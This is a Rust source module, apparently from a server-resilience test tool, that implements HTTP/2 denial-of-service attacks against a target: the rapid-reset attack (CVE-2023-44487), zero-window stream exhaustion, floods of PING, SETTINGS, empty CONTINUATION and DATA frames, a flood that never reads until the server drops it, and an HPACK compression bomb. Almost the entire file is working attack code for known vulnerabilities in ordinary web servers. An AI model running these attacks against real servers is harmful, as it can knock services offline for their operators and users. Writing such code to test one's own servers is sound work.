//! Attacks by HTTP/2.

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::frames::{
    AGAIN, END_HEADERS, END_STREAM, INITIAL_WINDOW, Kind, frame, get, kept, opening, request, reset, stream,
};
use super::{Fate, Target, send};

/// Frames that cost the peer something and the attacker next to nothing.
#[derive(Debug, Clone, Copy)]
pub enum Flood {
    /// PING: each wants an answer.
    Ping,
    /// SETTINGS: so does each of them.
    Settings,
    /// A head that goes on and on in empty CONTINUATIONs (CVE-2024-27316 and its like).
    Continuation,
    /// DATA without any.
    Data,
}

impl Target {
    /// Opens streams and resets each at once (CVE-2023-44487); [`Fate::taken`] counts them.
    pub async fn rapid_reset(&self, path: &str, streams: u32) -> Result<Fate> {
        let block = get(path);
        let opening = std::iter::once(opening(&[]));
        let pairs = (0..streams).map(move |number| [request(number, &block), reset(number)].concat());
        Ok(send(self.http2().await?, opening.chain(pairs)).await)
    }

    /// Opens so many streams, and no window for any answer.
    pub async fn closed_window(&self, path: &str, streams: u32) -> Result<Fate> {
        let block = get(path);
        let mut bytes = opening(&[(INITIAL_WINDOW, 0)]);
        bytes.extend((0..streams).flat_map(|number| request(number, &block)));
        Ok(send(self.http2().await?, std::iter::once(bytes)).await)
    }

    /// Asks for so many paths at once that nobody has asked for, below one that is this connection's own.
    pub async fn new_paths(&self, below: &str, streams: u32) -> Result<Fate> {
        let mut bytes = opening(&[]);
        bytes.extend((0..streams).flat_map(|number| request(number, &get(&format!("{below}/{number}")))));
        Ok(send(self.http2().await?, std::iter::once(bytes)).await)
    }

    /// Sends so many frames of a kind, reading all the while; [`Fate::taken`] counts them.
    pub async fn flood(&self, flood: Flood, frames: usize) -> Result<Fate> {
        let (opening, repeated) = flooding(flood);
        let chunks = std::iter::once(opening).chain(std::iter::repeat_n(repeated, frames));
        Ok(send(self.http2().await?, chunks).await)
    }

    /// The same, and never reads; returns how many went before the server closed.
    pub async fn deaf_flood(&self, flood: Flood) -> Result<usize> {
        let (opening, repeated) = flooding(flood);
        let mut stream = self.http2().await?;
        stream.write_all(&opening).await?;
        let mut taken = 0;
        while stream.write_all(&repeated).await.is_ok() {
            taken += 1;
        }
        Ok(taken)
    }

    /// A head of a few kilobytes that stands for so many fields of 4,000 bytes each (CVE-2016-6581).
    pub async fn compressed_bomb(&self, fields: usize) -> Result<Fate> {
        let block = [get("/healthz"), kept("x", &[b'x'; 4000]), vec![AGAIN; fields]].concat();
        let mut bytes = opening(&[]);
        bytes.extend(request(0, &block));
        Ok(send(self.http2().await?, std::iter::once(bytes)).await)
    }

    /// Shakes hands, opens HTTP/2, and says no more.
    pub async fn idle_http2(&self) -> Result<super::Stream> {
        let mut connection = self.http2().await?;
        connection.write_all(&opening(&[])).await?;
        connection.flush().await?;
        // The server's SETTINGS: it has seen what came.
        connection.read_exact(&mut [0; 9]).await?;
        Ok(connection)
    }
}

/// How a flood begins, and what it repeats.
fn flooding(flood: Flood) -> (Vec<u8>, Vec<u8>) {
    let mut begin = opening(&[]);
    let repeated = match flood {
        Flood::Ping => frame(Kind::Ping, 0, 0, &[0; 8]),
        Flood::Settings => frame(Kind::Settings, 0, 0, &[]),
        Flood::Continuation => {
            begin.extend(frame(Kind::Headers, END_STREAM, stream(0), &get("/healthz")));
            frame(Kind::Continuation, 0, stream(0), &[])
        }
        Flood::Data => {
            begin.extend(frame(Kind::Headers, END_HEADERS, stream(0), &get("/healthz")));
            frame(Kind::Data, 0, stream(0), &[])
        }
    };
    (begin, repeated)
}
